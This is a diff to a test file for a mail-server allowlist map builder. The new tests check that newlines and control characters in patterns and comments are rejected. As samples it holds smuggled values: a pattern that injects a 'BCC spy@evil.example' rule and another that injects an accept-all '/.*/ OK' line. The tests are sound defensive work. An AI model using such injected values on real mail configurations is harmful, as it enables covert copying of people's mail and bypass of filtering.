@@ -91,14 +91,14 @@ describe('blocklist probes', () => {
 describe('allowlist maps', () => {
   it('writes names, patterns and networks into the right tables', () => {
     const maps = buildAllowMaps([
-      { kind: 'name', value: 'mail.Partner.example', comment: 'partner\nwith newline' },
+      { kind: 'name', value: 'mail.Partner.example', comment: 'partner mail' },
       { kind: 'name', value: '.dyn.example' },
       { kind: 'regexp', value: '/^smtp[0-9]+\\.isp\\.example$/' },
       { kind: 'address', value: '198.51.100.0/24' },
       { kind: 'address', value: '2001:db8::5' },
     ]);
     expect(maps.problems).toEqual([]);
-    expect(maps.regexp).toContain('# partner with newline\n/^mail\\.partner\\.example$/ DUNNO\n');
+    expect(maps.regexp).toContain('# partner mail\n/^mail\\.partner\\.example$/ DUNNO\n');
     expect(maps.regexp).toContain('/(^|\\.)dyn\\.example$/ DUNNO\n');
     expect(maps.regexp).toContain('/^smtp[0-9]+\\.isp\\.example$/ DUNNO\n');
     expect(maps.regexp?.trimEnd().split('\n').at(-1)).toBe('/./ reject_unknown_client_hostname');
@@ -125,5 +125,23 @@ describe('allowlist maps', () => {
     expect(maps.problems.map((p) => p.index)).toEqual([0, 1]);
     expect(() => assertAllowEntries(maps)).toThrow(/allow entry 1 \("198.51.100.7\/24"\): the address has bits set/);
     expect(buildAllowMaps([{ kind: 'name', value: 'a.example\n/.*/ OK' }]).problems).toHaveLength(1);
+  });
+
+  it('refuses a newline inside /…/ (it would write a rule line of its own) and comments with control characters', () => {
+    // The reviewed attack: the pattern's newline started a `|.| BCC spy@evil.example` line.
+    const injected = '/^a\n|.| BCC spy@evil.example\n/';
+    expect(checkRegexpPattern(injected)).toMatch(/control character U\+000A/);
+    const maps = buildAllowMaps([{ kind: 'regexp', value: injected }]);
+    expect(maps.regexp).toBeNull();
+    expect(() => assertAllowEntries(maps)).toThrow(/allow entry 1 \("\/\^a\\u\{a\}\|\.\| BCC/);
+    for (const char of ['\r', '\u0085', '\u2028', '\u2029', '\u001b', '\u0000', '\t']) {
+      expect(checkRegexpPattern(`/^mx${char}1$/`), JSON.stringify(char)).toMatch(/control character/);
+      expect(buildAllowMaps([{ kind: 'name', value: 'mx.example', comment: `a${char}b` }]).problems, JSON.stringify(char)).toHaveLength(1);
+    }
+  });
+
+  it('refuses patterns matching "unknown", which would switch the host-name rule off', () => {
+    for (const pattern of ['/unk/', '/^[a-z]+$/', '/n/i', '/^(mx1|unknown)$/']) expect(checkRegexpPattern(pattern), pattern).toMatch(/unknown/);
+    expect(checkRegexpPattern('/^mx[0-9]+\\.example\\.net$/')).toBeNull();
   });
 });
